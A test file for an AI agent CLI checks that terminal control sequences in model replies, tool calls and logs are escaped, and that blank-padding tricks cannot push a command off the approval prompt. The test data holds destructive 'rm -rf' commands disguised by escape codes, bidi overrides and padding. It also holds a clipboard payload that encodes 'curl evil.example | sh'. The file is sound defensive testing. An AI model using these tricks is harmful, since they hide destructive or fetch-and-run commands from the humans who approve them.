"""Terminal output: control characters a model, a tool or a log carries are
shown, never obeyed: the approval prompt (whole command, no 200-character cut), run output, the
replay transcript and ``nodwyn log``; the log itself keeps what came byte for byte."""

from __future__ import annotations

import json
import os
import pty
import select
import shlex
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from nodwyn.cli.terminal import escape_controls
from nodwyn.fakes import FakeServer

Person = Callable[..., dict[str, str]]  # the `person` fixture (conftest.py)

pytestmark = pytest.mark.attack("terminal output")

NODWYN = str(Path(sys.executable).parent / "nodwyn")

ATTACKS = {
    "carriage-return-erase-line": "rm -rf ~/work\r\x1b[2Kls -la",
    "osc0-window-title": "\x1b]0;innocent title\x07",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi-cursor-up-and-clear": "\x1b[1A\x1b[2K\x1b[1A\x1b[2K",
    "c1-csi": "\x9b2K hidden",
    "c1-osc": "\x9d0;title\x9c",
    "backspaces": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     ",
    "bell-and-nul": "\x07\x00",
    "bidi-override": "ls \u202e; rm -rf ~ \u202c",
    "delete": "x\x7fy",
}
RAW = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, *range(0x80, 0xA0), 0x202E]]


def no_raw_controls(text: str) -> bool:
    return not any(c in text for c in RAW)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_escape_controls_spells_every_control_out(text: str) -> None:
    out = escape_controls(text, newlines=False)
    assert no_raw_controls(out) and "\n" not in out
    assert escape_controls("line one\n\tline two") == "line one\n\tline two"


EVIL_REPLY = "".join(ATTACKS.values())
LONG_COMMAND = "echo " + "a" * 300 + " && " + ATTACKS["carriage-return-erase-line"]


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory, person: Person) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("term")
    script: list[dict[str, Any]] = [
        {
            "text": EVIL_REPLY,
            "calls": [
                {
                    "name": "shell",
                    "id": "c1",
                    "arguments": {
                        # printed, never run: the reply holds "rm -rf ~" behind a bidi override
                        "command": "printf '\\033]0;t\\007'; printf '%s\\n' "
                        + shlex.quote(EVIL_REPLY.replace("\x00", ""))
                    },
                }
            ],
        },
        {"text": "done " + EVIL_REPLY},
    ]
    with FakeServer(api="openai-chat", script=script) as fake:
        env = person(tmp, fake.url)
        run = subprocess.run(
            [NODWYN, "run", "--yes", "go"],
            env=env,
            cwd=tmp / "ws",
            capture_output=True,
            timeout=120,
            stdin=subprocess.DEVNULL,
        )
        replay = subprocess.run(
            [NODWYN, "replay", "latest"], env=env, cwd=tmp / "ws", capture_output=True, timeout=60
        )
        log = subprocess.run(
            [NODWYN, "log", "latest"], env=env, cwd=tmp / "ws", capture_output=True, timeout=60
        )
        log_json = subprocess.run(
            [NODWYN, "log", "latest", "--json"], env=env, cwd=tmp / "ws", capture_output=True, timeout=60
        )
    yield {"tmp": tmp, "run": run, "replay": replay, "log": log, "log_json": log_json}


@pytest.mark.parametrize("command", ["run", "replay", "log", "log_json"])
def test_no_control_character_reaches_the_terminal(session: dict[str, Any], command: str) -> None:
    done = session[command]
    assert done.returncode == 0, done.stderr
    for stream in (done.stdout.decode(), done.stderr.decode()):
        assert no_raw_controls(stream.replace("\n", "")), repr(stream[:400])


def test_the_reply_is_shown_spelled_out(session: dict[str, Any]) -> None:
    out = session["run"].stdout.decode()
    assert "\\x1b]52;c;" in out and "\\r\\x1b[2K" in out


def test_the_log_keeps_the_bytes_as_they_came(session: dict[str, Any]) -> None:
    (log,) = (session["tmp"] / "home").rglob("log.jsonl")
    replies = [json.loads(line) for line in log.read_text().splitlines() if '"llm.resp"' in line]
    texts = [r["data"]["response"]["text"] for r in replies if r["data"]["response"].get("text")]
    assert any(EVIL_REPLY in t for t in texts)


def test_the_approval_prompt_shows_the_whole_command_escaped(tmp_path: Path, person: Person) -> None:
    """Through a real terminal (a pty): the prompt holds all 300+ characters, spelled out."""
    script: list[dict[str, Any]] = [
        {"calls": [{"name": "shell", "id": "c1", "arguments": {"command": LONG_COMMAND}}]},
        {"text": "declined"},
    ]
    with FakeServer(api="openai-chat", script=script) as fake:
        env = person(tmp_path, fake.url)
        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [NODWYN, "run", "go"], env=env, cwd=tmp_path / "ws", stdin=slave, stdout=slave, stderr=slave
        )
        os.close(slave)
        seen = b""
        deadline = time.monotonic() + 60
        answered = False
        try:
            while time.monotonic() < deadline:
                ready, _, _ = select.select([master], [], [], 0.5)
                if ready:
                    try:
                        chunk = os.read(master, 65536)
                    except OSError:
                        break
                    if not chunk:
                        break
                    seen += chunk
                    if not answered and b"[y/N]" in seen:
                        os.write(master, b"n\n")
                        answered = True
                elif proc.poll() is not None:
                    break
            proc.wait(timeout=30)
        finally:  # reaped and closed even when it hung (ADR 0417)
            if proc.poll() is None:
                proc.kill()
                proc.wait()
            os.close(master)
    text = seen.decode("utf-8", "replace")
    prompt = text[text.index("shell (sandbox") :]
    prompt = prompt[: prompt.index("[y/N]")].replace("\r\n  ", "")  # the command, folded, unfolded
    assert "a" * 300 in prompt  # no 200-character cut
    assert "\\r\\x1b[2Kls -la" in prompt
    assert answered


# -- issue 21, item 4: blanks that push what runs off the line-mode approval prompt ---------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("touch X ;" + " " * 3000 + "echo building docs", "touch X ;⟨3000 spaces⟩echo building docs"),
        ("touch X ;" + "\u3000" * 3000 + "echo hi", "touch X ;⟨U+3000 ×3000⟩echo hi"),
        ("touch X ;" + "\u2800" * 500 + "echo hi", "touch X ;⟨U+2800 ×500⟩echo hi"),
        ("rm -rf ~\u200b\u200b\u200b\u200bls", "rm -rf ~⟨U+200B ×4⟩ls"),
        ("rm x\u00a0y\u3164z", "rm x\\u00a0y\\u3164z"),
        ("rm -rf ~\t\t\t\tls", "rm -rf ~⟨tab ×4⟩ls"),
        ("rm -rf ~\n" + "\n" * 40 + "ls", "rm -rf ~⟨newline ×41⟩ls"),
        ("rm -rf ~ ⟨3000 spaces⟩ ls", "rm -rf ~ \\u27e83000 spaces\\u27e9 ls"),  # a forged count
    ],
    ids=[
        "3000-spaces",
        "ideographic-space",
        "braille-blank",
        "zero-width",
        "nbsp-hangul-filler",
        "tabs",
        "newlines",
        "forged-marker",
    ],
)
def test_blank_runs_are_counted_in_the_approval_prompt(command: str, expected: str) -> None:
    from nodwyn.cli.screen import approval_lines

    lines, question = approval_lines("shell", command, "sandbox workspace-write, no network", 80)
    assert all(len(line) <= 80 for line in lines)
    assert "".join(line[2:] for line in lines[1:]) == expected
    assert question.startswith(f"allow shell `{expected[:20]}")
    if len(command) > 60:
        assert f"{len(command):,} characters" in lines[0]
